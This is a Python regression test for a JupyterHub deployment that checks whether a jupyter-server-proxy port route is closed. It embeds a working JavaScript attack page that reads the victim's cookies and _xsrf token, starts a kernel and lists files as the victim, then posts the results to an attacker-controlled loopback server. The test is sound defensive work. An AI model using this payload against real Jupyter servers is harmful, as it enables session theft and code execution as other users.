"""Regression test of issue 19, part 1: one link to your own server must not run someone else's page.

The attack, replayed in Chromium: someone starts a web server on a loopback port (here
a server of this test, standing in for one started in the attacker's own server: any
account can listen on loopback). The victim, logged in to the hub with JupyterLab open,
follows a link to *their own* server:
``http://<victim>.localhost:PORT/user/<victim>/proxy/<attacker's port>/page.html``.
jupyter-server-proxy's generic port route used to serve the attacker's page there, on
the victim's origin, and to forward the victim's cookies to the attacker's server. The
page then

1. reads ``document.cookie`` and the server's ``_xsrf`` cookie;
2. starts a kernel as the victim (``POST /user/<victim>/api/kernels``) and lists their
   files;
3. posts what it got back through the same proxy route to the attacker's server.

A user and the admin follow the link. Asserted: the attacker's page is not served on
the victim's origin, no request (so no cookie) reaches the attacker's server, and no
kernel runs in the victim's server. Without enertef_hub.notebook.port_proxy (the code
before issue 19) all three fail.

Not marked ``jupyterhub_login``: what is tested runs in the user's server (from .venv in
both passes of scripts/run-tests.sh), not in the hub.
"""

from __future__ import annotations

import http.server
import json
import threading

import pytest
from tests.harness.browser import log_in, wait_past_spawn_page
from tests.harness.forms import signup_and_approve
from tests.harness.hub import kernel_pids, server_pid, start_server
from tests.harness.names import unique_name

PASSWORD = "Portproxy-e2e-passw0rd!"
TITLE = "Nice results"

#: The attacker's page: relative URLs go back through the victim's proxy route.
ATTACK_PAGE = """<!doctype html>
<html><head><title>@TITLE@</title></head><body><p>Loading the results...</p>
<script>
const server = location.pathname.split("/proxy/")[0];  // /user/<victim>
const loot = {victim: server.split("/").pop(), origin: location.origin, cookies: document.cookie, steps: {}};

function xsrf() {
  const m = document.cookie.match(/(?:^|; )_xsrf=([^;]+)/);
  return m ? decodeURIComponent(m[1]) : null;
}

(async () => {
  try {
    if (!xsrf()) await fetch(server + "/lab", {credentials: "include"});  // sets the _xsrf cookie
    const token = xsrf();
    loot.steps.xsrf = token;
    const headers = {"Content-Type": "application/json"};
    if (token) headers["X-XSRFToken"] = token;
    const kernel = await fetch(server + "/api/kernels", {
      method: "POST", credentials: "include", headers: headers, body: JSON.stringify({name: "python3"}),
    });
    loot.steps.kernel = {status: kernel.status, body: (await kernel.text()).slice(0, 2000)};
    const files = await fetch(server + "/api/contents", {credentials: "include"});
    loot.steps.files = {status: files.status, body: (await files.text()).slice(0, 2000)};
  } catch (error) {
    loot.steps.error = String(error);
  }
  await fetch("loot", {method: "POST", body: JSON.stringify(loot)});
  document.title = "done";
})();
</script></body></html>
""".replace("@TITLE@", TITLE)


class AttackerSite:
    """The attacker's web server on a loopback port: serves the page, keeps every request it gets."""

    def __init__(self):
        self.requests: list[dict] = []  #: method, path and headers of every request received
        self.loot: list[dict] = []
        site = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self) -> bytes:
                body = self.rfile.read(int(self.headers.get("Content-Length", 0) or 0))
                site.requests.append({"method": self.command, "path": self.path, "headers": dict(self.headers)})
                return body

            def do_GET(self):
                self._record()
                page = ATTACK_PAGE.encode()
                self.send_response(200)
                self.send_header("Content-Type", "text/html; charset=utf-8")
                self.send_header("Content-Length", str(len(page)))
                self.end_headers()
                self.wfile.write(page)

            def do_POST(self):
                body = self._record()
                try:
                    site.loot.append(json.loads(body))
                except ValueError:
                    pass
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def attacker_site():
    site = AttackerSite()
    yield site
    site.server.shutdown()


def follow_the_link(hub, page, victim: str, attacker_site: AttackerSite):
    """The victim, JupyterLab open in their browser, opens the attacker's link to their own server."""
    server_url = start_server(hub, victim)
    wait_past_spawn_page(page)  # the log-in started it from the browser too
    page.goto(f"{server_url}lab")  # their own server's cookies are now in the browser
    page.wait_for_url(lambda url: "/lab" in url, timeout=60_000)
    before = kernel_pids(server_pid(hub, victim))
    seen = len(attacker_site.requests)
    link = f"{server_url}proxy/{attacker_site.port}/page.html"
    response = page.goto(link)
    served = TITLE in page.content()
    if served:  # let the attack run to the end, so a failure shows all it did
        page.wait_for_function("document.title === 'done'", timeout=60_000)
    reached = attacker_site.requests[seen:]
    loot = [item for item in attacker_site.loot if item.get("victim") == victim]
    new_kernels = set(kernel_pids(server_pid(hub, victim))) - set(before)
    status = response.status if response else None
    problems = []
    if served or status != 404:
        problems.append(f"the attacker's page was served on {victim}'s origin ({status} for {link})")
    if [r for r in reached if "Cookie" in r["headers"] or "Authorization" in r["headers"]]:
        problems.append(f"{victim}'s cookies reached the attacker's server")
    if reached:
        problems.append(f"{len(reached)} requests through {victim}'s server reached the attacker's server")
    if new_kernels:
        problems.append(f"the attacker's page started kernels as {victim}: {sorted(new_kernels)}")
    summary = [(r["method"], r["path"], sorted(set(r["headers"]) & {"Cookie", "Authorization"})) for r in reached]
    assert not problems, "\n".join(problems) + f"\nrequests that reached it: {summary}\nwhat the page got: {loot}"


def test_user_following_a_port_proxy_link_loses_nothing(hub, new_page, attacker_site):
    victim = signup_and_approve(hub, unique_name("pvictim"), PASSWORD)
    page = new_page()
    log_in(page, hub, victim, PASSWORD, wait=True)
    follow_the_link(hub, page, victim, attacker_site)


def test_admin_following_a_port_proxy_link_loses_nothing(hub, new_page, attacker_site):
    page = new_page()
    log_in(page, hub, hub.admin_name, hub.admin_password, wait=True)
    follow_the_link(hub, page, hub.admin_name, attacker_site)
